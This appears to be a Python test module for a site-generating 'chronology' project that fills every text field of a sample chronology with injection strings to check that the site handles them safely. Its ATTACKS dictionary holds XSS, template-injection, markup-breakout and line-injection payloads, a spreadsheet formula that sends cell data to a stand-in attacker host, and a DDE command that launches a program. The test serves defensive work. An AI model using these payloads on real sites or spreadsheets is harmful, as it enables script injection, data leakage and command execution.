"""A chronology in which every text that may hold anything holds one attack."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from chronology.loading.loader import load
from chronology.model.chronology import Chronology
from chronology.model.site import Site
from chronology.rules.findings import has_errors
from chronology.rules.registry import findings
from pydantic import BaseModel

from tests.site import hostile

SITE = Site("Freedonia", "https://example.org/x/", "https://github.com/o/r/edit/main/")

ATTACKS = {
    "template": "{{ 7*7 }}{% raw %}{{ config.__class__ }}{# x #}${7*7}<%= 7*7 %>",
    "element": "<script>window.hit=1</script><img src=x onerror=hit()><svg/onload=hit()></title></style>",
    "attribute": "\" onmouseover=\"hit()\" x='y' autofocus onfocus=hit() '",
    "reference": "&lt;script&gt;hit()&lt;/script&gt;&#106;avascript:hit()&amp;",
    "end of comment and section": "--> </textarea></pre></code></svg></template> <!-- ] ]> <![CDATA[ x",
    "end of line": "x\nBEGIN:VEVENT\nSUMMARY:hit\nER  - \nTY  - GEN\n@misc{hit,\n::error::hit\n# hit\n---\n",
    "end of field": '},\n} @misc{hit, url = {javascript:hit()}}; ", "hit": 1, \\", \\u0022, \\',
    "formula": '=HYPERLINK("https://evil.example/"&A1,"x")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
}
"""By what is tried. An attack on one line has no line feed."""


def one_line(attack: str, at_most: int) -> str:
    """Return as much of an attack as a field of one line takes."""
    return " ".join(attack.split())[:at_most].strip()


def chronology(folder: Path, attack: str) -> Chronology:
    """Write a chronology with an attack in every field that takes any text, and load it; it has no error."""
    line = " ".join(attack.split())
    hostile.write(folder, line, one_line(attack, 80), one_line(attack, 24))
    for path in (*folder.glob("events/*.yml"), *folder.glob("seeds/*.yml"), folder / "docs" / "retired.yml"):
        content = json.loads(path.read_text("utf-8"))
        path.write_text(json.dumps(_with_lines(content, attack)), "utf-8")
    loaded = load(folder)
    found = findings(loaded)
    assert not has_errors(found), found
    return loaded


def _with_lines(value: Any, attack: str, key: str = "") -> Any:
    """Put the lines of an attack back into the fields that take several."""
    if isinstance(value, dict):
        return {name: _with_lines(one, attack, name) for name, one in value.items()}
    if isinstance(value, list):
        return [_with_lines(one, attack, key) for one in value]
    several = {"summary", "text", "date_note", "says", "standpoint", "synopsis", "reasoning", "withdrawn"}
    return attack if key in several and value == " ".join(attack.split()) else value


def unused(records: Iterator[BaseModel]) -> set[str]:
    """Return the fields, as Model.field, that none of the records fills."""
    fields: dict[str, bool] = {}
    waiting = list(records)
    while waiting:
        record = waiting.pop()
        for name, field in type(record).model_fields.items():
            value = getattr(record, name)
            key = f"{type(record).__name__}.{name}"
            fields[key] = fields.get(key, False) or value not in (None, (), {})
            waiting += [
                one for one in (value if isinstance(value, tuple) else (value,)) if isinstance(one, BaseModel)
            ]
            assert field.description
    return {key for key, filled in fields.items() if not filled}
